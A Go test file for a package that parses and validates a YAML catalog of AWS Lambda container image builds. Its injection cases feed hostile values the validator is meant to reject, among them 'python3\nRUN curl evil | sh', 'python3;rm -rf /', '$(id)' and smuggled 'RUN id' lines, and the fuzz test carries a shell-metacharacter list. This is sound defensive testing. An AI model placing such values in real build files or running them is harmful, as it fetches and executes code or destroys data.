package catalog

import (
	"context"
	"errors"
	"os"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// allTemplates pretends every template exists.
type allTemplates struct{}

func (allTemplates) Dockerfile(Language, Variant) (string, bool) { return "", true }

// defaultTemplates has each language's default template and no other.
type defaultTemplates struct{}

func (defaultTemplates) Dockerfile(l Language, s Variant) (string, bool) {
	return "templates/" + string(l) + "/" + s.Template + ".Dockerfile.tmpl", s.Template == ""
}

const validCatalog = `
defaults:
  namespace: acme/lambda
  rie:
    version: "1.35"
    url: https://example.com/rie/v{version}/aws-lambda-rie-{arch}
    sha256:
      x86_64: 3a3494331c212c14366c1073fdc4f0078f58a927da64479413879b0d84e21f20
      arm64: 8159172a2dc2ce5bf434ba94d7241f2252d1ac30b58410c7e30a4b8afefd7cca
  labels:
    org.opencontainers.image.vendor: acme
languages:
  python:
    image: python
    ric: "3.1.1"
    handler: app.handler
    variants:
      al2023: {base: "public.ecr.aws/amazonlinux/amazonlinux:2023", packages: ["python{version}"]}
      alpine: {base: "docker.io/library/python:{version}-alpine3.20"}
    os: {al2023: {}, alpine: {buildDepends: [build-base, "python{version}-dev"], depends: [libstdc++]}}
runtimes:
  - id: python3.12
    language: python
    version: "3.12"
    tags: ["3.12"]
    os: al2023
    architectures: [x86_64, arm64]
    deprecated: 2028-10-31
    variants: {aws: {}, al2023: {}, alpine: {}}
  - id: python3.7
    language: python
    version: "3.7"
    tags: ["3.7"]
    os: al2018.03
    architectures: [x86_64]
    variants: {aws: {}}
`

func mustParse(t *testing.T, text string) *Catalog {
	t.Helper()
	c, err := Parse("test.yaml", []byte(text))
	if err != nil {
		t.Fatalf("Parse: %v", err)
	}
	return c
}

func TestValidCatalog(t *testing.T) {
	c := mustParse(t, validCatalog)
	if err := Validate(c, allTemplates{}); err != nil {
		t.Fatalf("Validate: %v", err)
	}
}

// TestValidate changes one thing in a valid catalog per case and expects
// exactly the listed problems (file:line: path: message fragments).
func TestValidate(t *testing.T) {
	cases := []struct {
		name    string
		old     string // text in validCatalog to replace
		new     string
		tmpl    TemplateSet
		want    []string // fragments, one per expected problem
		wantErr bool     // Parse fails instead
	}{
		{name: "unknown arch", old: "architectures: [x86_64, arm64]", new: "architectures: [x86_64, arm]",
			want: []string{`test.yaml:27: runtimes[python3.12].architectures[1]: arch "arm" is not one of [x86_64 arm64]`}},
		{name: "duplicate arch", old: "architectures: [x86_64, arm64]", new: "architectures: [arm64, arm64]",
			want: []string{`architectures[1]: arch "arm64" is listed twice`}},
		{name: "no arch", old: "architectures: [x86_64, arm64]", new: "architectures: []",
			want: []string{`runtimes[python3.12].architectures: at least one architecture is needed`}},
		{name: "unknown language", old: "language: python\n    version: \"3.7\"", new: "language: cobol\n    version: \"3.7\"",
			want: []string{`runtimes[python3.7].language: language "cobol" is not one of [python nodejs java dotnet ruby go provided]`}},
		{name: "unknown aws os", old: "os: al2018.03", new: "os: windows",
			want: []string{`runtimes[python3.7].os: os "windows" is not one of [al2018.03 al2 al2023]`}},
		{name: "arm64 on 2018.03", old: "architectures: [x86_64]\n", new: "architectures: [x86_64, arm64]\n",
			want: []string{`runtimes[python3.7].architectures[1]: AWS builds Amazon Linux 2018.03 runtimes for x86_64 only`}},
		{name: "duplicate id", old: "- id: python3.7", new: "- id: python3.12",
			want: []string{`runtimes[python3.12].id: duplicate runtime id "python3.12"`}},
		{name: "shared tag", old: `tags: ["3.7"]`, new: `tags: ["3.12"]`,
			want: []string{`runtimes[python3.7].tags[0]: tag "3.12" is already used by python3.12`}},
		{name: "malformed date", old: "deprecated: 2028-10-31", new: "deprecated: 2028-13-31",
			want: []string{`test.yaml:28: runtimes[python3.12].deprecated: date "2028-13-31" is not a calendar date`}},
		{name: "date not iso", old: "deprecated: 2028-10-31", new: "deprecated: Oct 31 2028",
			want: []string{`date "Oct 31 2028" is not YYYY-MM-DD`}},
		{name: "dates out of order", old: "deprecated: 2028-10-31", new: "deprecated: 2028-10-31\n    blockCreate: 2028-01-01",
			want: []string{`runtimes[python3.12].blockCreate: 2028-01-01 is before deprecated (2028-10-31)`}},
		{name: "ric on 2018.03", old: "variants: {aws: {}}", new: "variants: {aws: {}, al2018.03: {base: amazonlinux:2018.03}}",
			want: []string{`runtimes[python3.7].variants.al2018.03: the Runtime Interface Client does not support Amazon Linux 2018.03 (alami): build on al2, al2023, alpine, debian, ubuntu or centos, or use the aws variant`}},
		{name: "2018.03 default needs aws", old: "variants: {aws: {}}", new: "variants: {al2023: {}}",
			want: []string{`runtimes[python3.7].variants: default variant "aws" is not among the variants [al2023]`}},
		{name: "missing template", tmpl: defaultTemplates{}, old: "al2023: {}, alpine: {}}", new: "al2023: {}, alpine: {template: musl}}",
			want: []string{`test.yaml:29: runtimes[python3.12].variants.alpine.template: no template templates/python/musl.Dockerfile.tmpl for python on alpine`}},
		{name: "missing os template", tmpl: defaultTemplates{}, old: "alpine: {buildDepends:", new: "alpine: {template: musl, buildDepends:",
			want: []string{`runtimes[python3.12].variants.alpine: no template templates/python/musl.Dockerfile.tmpl for python on alpine`}},
		{name: "os not in the language's", old: "al2023: {}, alpine: {}}", new: "al2023: {}, alpine: {}, centos: {base: quay.io/centos/centos:stream9}}",
			want: []string{`runtimes[python3.12].variants.centos: python is not known to build on centos: languages.python.os has no entry centos (it has [al2023 alpine])`}},
		{name: "bad template name", old: "al2023: {}, alpine: {}}", new: "al2023: {}, alpine: {template: ../x}}",
			want: []string{`runtimes[python3.12].variants.alpine.template: "../x" is not a template name`}},
		{name: "template on aws", old: "variants: {aws: {}}", new: "variants: {aws: {template: x}}",
			want: []string{`runtimes[python3.7].variants.aws: the aws variant takes AWS's image as it is`}},
		{name: "os needs for aws", old: "os: {al2023", new: "os: {aws: {depends: [curl]}, al2023",
			want: []string{`test.yaml:20: languages.python.os.aws: os "aws" is not one of [al2 al2023 alpine debian ubuntu centos]`}},
		{name: "bad depends", old: "depends: [libstdc++]", new: "depends: [\"libstdc++ && id\"]",
			want: []string{`languages.python.os.alpine.depends[0]: "libstdc++ && id" is not an OS package name`}},
		{name: "variant without os", old: "alpine: {}}", new: "alpine: {}, musl: {}}",
			want: []string{`runtimes[python3.12].variants.musl.os: variant "musl" needs an os`}},
		{name: "variant without base", old: "alpine: {}}", new: "alpine: {}, al2023-min: {}}",
			want: []string{`runtimes[python3.12].variants.al2023-min.base: variant "al2023-min" has no base image`}},
		{name: "variant arch outside runtime", old: "variants: {aws: {}}", new: "variants: {aws: {architectures: [arm64]}}",
			want: []string{`runtimes[python3.7].variants.aws.architectures[0]: arch "arm64" is not one of the runtime's architectures [x86_64]`}},
		{name: "bad default", old: "deprecated: 2028-10-31", new: "deprecated: 2028-10-31\n    default: ubuntu",
			want: []string{`runtimes[python3.12].default: default variant "ubuntu" is not among the variants [al2023 alpine aws]`}},
		{name: "bad sha256", old: "x86_64: 3a34", new: "x86_64: ZZ34",
			want: []string{`defaults.rie.sha256.x86_64: "ZZ34`}},
		{name: "missing sha256", old: "      arm64: 8159172a2dc2ce5bf434ba94d7241f2252d1ac30b58410c7e30a4b8afefd7cca\n", new: "",
			want: []string{`defaults.rie.sha256: missing the sha256 for arm64`}},
		{name: "bad extends", old: "defaults:", new: "extends: mine\ndefaults:",
			want: []string{`extends: "mine" is not "builtin"`}},
		{name: "no variants", old: "variants: {aws: {}}", new: "variants: {}",
			want: []string{`runtimes[python3.7].variants: a runtime needs at least one variant`}},
		{name: "no tags", old: `tags: ["3.7"]`, new: `tags: []`,
			want: []string{`runtimes[python3.7].tags: a runtime needs at least one image tag`}},
		// Injection: nothing that reaches a Dockerfile or a script may carry
		// a newline, a quote or a shell metacharacter.
		{name: "newline in package", old: `packages: ["python{version}"]`, new: `packages: ["python3\nRUN curl evil | sh"]`,
			want: []string{`languages.python.variants.al2023.packages[0]: "python3\nRUN curl evil | sh" is not an OS package name`}},
		{name: "shell in package", old: `packages: ["python{version}"]`, new: `packages: ["python3;rm -rf /"]`,
			want: []string{`is not an OS package name`}},
		{name: "command substitution in version", old: `version: "3.12"`, new: `version: "$(id)"`,
			want: []string{`runtimes[python3.12].version: "$(id)" is not a language version`}},
		{name: "quote in label", old: "org.opencontainers.image.vendor: acme", new: `org.opencontainers.image.vendor: 'acme" RUN id "'`,
			want: []string{`defaults.labels.org.opencontainers.image.vendor: "acme\" RUN id \"" is not a label value`}},
		{name: "newline in label", old: "org.opencontainers.image.vendor: acme", new: "org.opencontainers.image.vendor: \"acme\\nRUN id\"",
			want: []string{`is not a label value`}},
		{name: "bad label key", old: "org.opencontainers.image.vendor: acme", new: "Bad Key: acme",
			want: []string{`defaults.labels.Bad Key: "Bad Key" is not a label key`}},
		{name: "backtick in tag", old: `tags: ["3.12"]`, new: "tags: [\"3.12`id`\"]",
			want: []string{"is not an image tag"}},
		{name: "space in base", old: `base: "docker.io/library/python:{version}-alpine3.20"`, new: `base: "alpine AS x\nRUN id"`,
			want: []string{`languages.python.variants.alpine.base: "alpine AS x\nRUN id" is not an image reference`}},
		{name: "quote in rie url", old: "url: https://example.com/rie", new: `url: https://example.com/"rie`,
			want: []string{`defaults.rie.url`, `defaults.rie.url`}},
		{name: "bad ric", old: `ric: "3.1.1"`, new: `ric: "3.1.1 && curl x"`,
			want: []string{`languages.python.ric: "3.1.1 && curl x" is not a version`}},
		{name: "bad id", old: "- id: python3.7", new: "- id: Python 3.7",
			want: []string{`runtimes[Python 3.7].id: "Python 3.7" is not a runtime id`}},
		{name: "bad arg value", old: `alpine: {base: "docker.io/library/python:{version}-alpine3.20"}`, new: `alpine: {base: "docker.io/library/python:{version}-alpine3.20", args: {X_SOURCE: "1 2"}}`,
			want: []string{`languages.python.variants.alpine.args.X_SOURCE: "1 2" is not a build-argument value`}},
		{name: "bad arg key", old: `alpine: {base: "docker.io/library/python:{version}-alpine3.20"}`, new: `alpine: {base: "docker.io/library/python:{version}-alpine3.20", args: {"x y": "1"}}`,
			want: []string{`is not a build-argument name`}},
		{name: "bad mirror", old: "  namespace: acme/lambda", new: "  namespace: acme/lambda\n  registryMirrors: {docker.io: \"evil host\"}",
			want: []string{`defaults.registryMirrors.docker.io: "evil host" is not a registry host`}},
		{name: "bad builder", old: "  namespace: acme/lambda", new: "  namespace: acme/lambda\n  builders: [\"tcp://a:1234,jobs=2\", \"b:1234\", \"tcp://c:1,tls=yes\"]",
			want: []string{`defaults.builders[1]: builder "b:1234": want an address SCHEME://`, `defaults.builders[2]: builder "tcp://c:1": unknown option "tls"`}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			text := validCatalog
			if tc.old != "" {
				if !strings.Contains(text, tc.old) {
					t.Fatalf("test case: %q is not in the catalog", tc.old)
				}
				text = strings.Replace(text, tc.old, tc.new, 1)
			}
			c := mustParse(t, text)
			tmpl := tc.tmpl
			if tmpl == nil {
				tmpl = allTemplates{}
			}
			err := Validate(c, tmpl)
			var ve *ValidationError
			if !errors.As(err, &ve) {
				t.Fatalf("Validate = %v, want a *ValidationError", err)
			}
			if len(ve.Problems) != len(tc.want) {
				t.Fatalf("got %d problems, want %d:\n%v", len(ve.Problems), len(tc.want), err)
			}
			for i, frag := range tc.want {
				if got := ve.Problems[i].Error(); !strings.Contains(got, frag) {
					t.Errorf("problem %d = %q, want it to contain %q", i, got, frag)
				}
			}
		})
	}
}

func TestValidateReportsAllAtOnce(t *testing.T) {
	text := strings.NewReplacer(
		"architectures: [x86_64, arm64]", "architectures: [x86_64, sparc]",
		`version: "3.7"`, `version: "3.7 beta"`,
		"deprecated: 2028-10-31", "deprecated: soon",
	).Replace(validCatalog)
	err := Validate(mustParse(t, text), allTemplates{})
	var ve *ValidationError
	if !errors.As(err, &ve) || len(ve.Problems) != 3 {
		t.Fatalf("want 3 problems at once, got: %v", err)
	}
}

func TestParseErrors(t *testing.T) {
	cases := []struct {
		name, old, new string
		want           []string
	}{
		{"unknown key", "    deprecated: 2028-10-31", "    deprecated: 2028-10-31\n    deprecation: 2028-10-31",
			[]string{`test.yaml:29: unknown key "deprecation" in runtime`}},
		{"two unknown keys", "  namespace: acme/lambda", "  namespace: acme/lambda\n  namspace: x\n  colour: red",
			[]string{`test.yaml:4: unknown key "namspace" in defaults`, `test.yaml:5: unknown key "colour" in defaults`}},
		{"wrong type", `tags: ["3.12"]`, `tags: {a: b}`,
			[]string{`test.yaml:25: cannot unmarshal !!map into []string`}},
		{"duplicate key", "    os: al2023\n", "    os: al2023\n    os: al2\n",
			[]string{`test.yaml:27: mapping key "os" already defined at line 26`}},
		{"not yaml", "defaults:", "defaults: [",
			[]string{`test.yaml:`}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			_, err := Parse("test.yaml", []byte(strings.Replace(validCatalog, tc.old, tc.new, 1)))
			if err == nil {
				t.Fatal("Parse succeeded, want an error")
			}
			for _, frag := range tc.want {
				if !strings.Contains(err.Error(), frag) {
					t.Errorf("error %q does not contain %q", err, frag)
				}
			}
		})
	}
}

func names(ts []Target) []string {
	out := make([]string, len(ts))
	for i, t := range ts {
		out[i] = t.Name()
		for _, a := range t.Arches {
			out[i] += " " + string(a)
		}
	}
	return out
}
func TestResolvedVariant(t *testing.T) {
	c := mustParse(t, validCatalog)
	ts, err := c.Targets(Selector{Runtimes: []string{"python3.12"}, Variants: []string{"al2023", "aws"}})
	if err != nil {
		t.Fatal(err)
	}
	al, aws := ts[0], ts[1]
	if diff := cmp.Diff([]string{"python3.12"}, al.Spec.Packages); diff != "" {
		t.Errorf("{version} not expanded (-want +got):\n%s", diff)
	}
	if al.Spec.BuildBase != al.Spec.Base || al.Spec.RIC != "3.1.1" || !al.WithRIE() || al.RIE.Version != "1.35" {
		t.Errorf("al2023 spec not filled in: %+v", al.Spec)
	}
	if aws.Spec.Base != "public.ecr.aws/lambda/python:3.12" || aws.WithRIE() {
		t.Errorf("aws variant: base %q, rie %v; want AWS's image and no RIE", aws.Spec.Base, aws.WithRIE())
	}
}

func TestOverlay(t *testing.T) {
	base := mustParse(t, validCatalog)
	user, err := Parse("mine.yaml", []byte(`
extends: builtin
defaults:
  namespace: me
runtimes:
  - id: python3.12
    variants:
      alpine3.20:
        base: docker.io/library/python:3.12-alpine3.20
        packages: [git, "bash"]
`))
	if err != nil {
		t.Fatal(err)
	}
	c := Overlay(base, user)
	if err := Validate(c, allTemplates{}); err != nil {
		t.Fatal(err)
	}
	ts, err := c.Targets(Selector{Runtimes: []string{"python3.12"}, Variants: []string{"alpine3.20"}})
	if err != nil {
		t.Fatal(err)
	}
	if ts[0].Spec.OS != Alpine || c.Defaults.Namespace != "me" || len(c.Runtimes) != 2 {
		t.Errorf("overlay: os %q namespace %q runtimes %d", ts[0].Spec.OS, c.Defaults.Namespace, len(c.Runtimes))
	}
	// A problem in the overlay's variant names the overlay's file and line.
	user.Runtimes[0].Variants["alpine3.20"] = Variant{Base: "bad image ref"}
	err = Validate(Overlay(base, user), allTemplates{})
	if err == nil || !strings.Contains(err.Error(), "mine.yaml:9: runtimes[python3.12].variants.alpine3.20.base") {
		t.Errorf("want the overlay's position, got %v", err)
	}
}

func TestFamilyOf(t *testing.T) {
	for name, want := range map[string]OS{"alpine3.20": Alpine, "debian-trixie": Debian, "al2": AL2, "al2023": AL2023, "al2x": "", "ubuntu24.04": Ubuntu, "musl": ""} {
		if got := familyOf(name); got != want {
			t.Errorf("familyOf(%q) = %q, want %q", name, got, want)
		}
	}
}

func FuzzParse(f *testing.F) {
	f.Add([]byte(validCatalog))
	f.Add([]byte("runtimes: [{id: x, variants: {a: {}}}]"))
	f.Add([]byte("defaults: {labels: {a: \"b\\n\"}}"))
	f.Fuzz(func(t *testing.T, data []byte) {
		c, err := Parse("fuzz.yaml", data)
		if err != nil {
			return
		}
		// Whatever parses must validate without panicking, and a catalog
		// that validates must only hold values the patterns allow.
		if Validate(c, allTemplates{}) != nil {
			return
		}
		for _, r := range c.Runtimes {
			if strings.ContainsAny(r.ID+r.Version+strings.Join(r.Tags, ""), "\n\"'$`;&| ") {
				t.Fatalf("unsafe value passed validation: %+v", r)
			}
			for name := range r.Variants {
				s := resolveVariant(c, &r, name)
				if strings.ContainsAny(s.Base+s.BuildBase+strings.Join(s.Packages, "")+strings.Join(s.BuildPackages, "")+s.RIC, "\n\"'$`;&| ") {
					t.Fatalf("unsafe variant passed validation: %+v", s)
				}
			}
		}
	})
}

func TestAWSVariantRejectsWhatItIgnores(t *testing.T) {
	text := strings.Replace(validCatalog, "variants: {aws: {}}", "variants: {aws: {rie: false}}", 1)
	err := Validate(mustParse(t, text), allTemplates{})
	if err == nil || !strings.Contains(err.Error(), "runtimes[python3.7].variants.aws: the aws variant takes AWS's image as it is") {
		t.Errorf("Validate = %v", err)
	}
}

func TestReadFileResolvesExtensionsAgainstTheFile(t *testing.T) {
	dir := t.TempDir()
	p := dir + "/mine.yaml"
	if err := os.WriteFile(p, []byte("extends: builtin\nruntimes:\n  - id: python3.12\n    variants:\n      alpine: {extensions: [ext/agent.zip, /abs/x]}\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	c, err := Read(context.Background(), p, ReadOptions{AllowHostPaths: true})
	if err != nil {
		t.Fatal(err)
	}
	got := c.Runtimes[0].Variants["alpine"].Extensions
	if diff := cmp.Diff([]string{dir + "/ext/agent.zip", "/abs/x"}, got); diff != "" {
		t.Errorf("extensions (-want +got):\n%s", diff)
	}
}
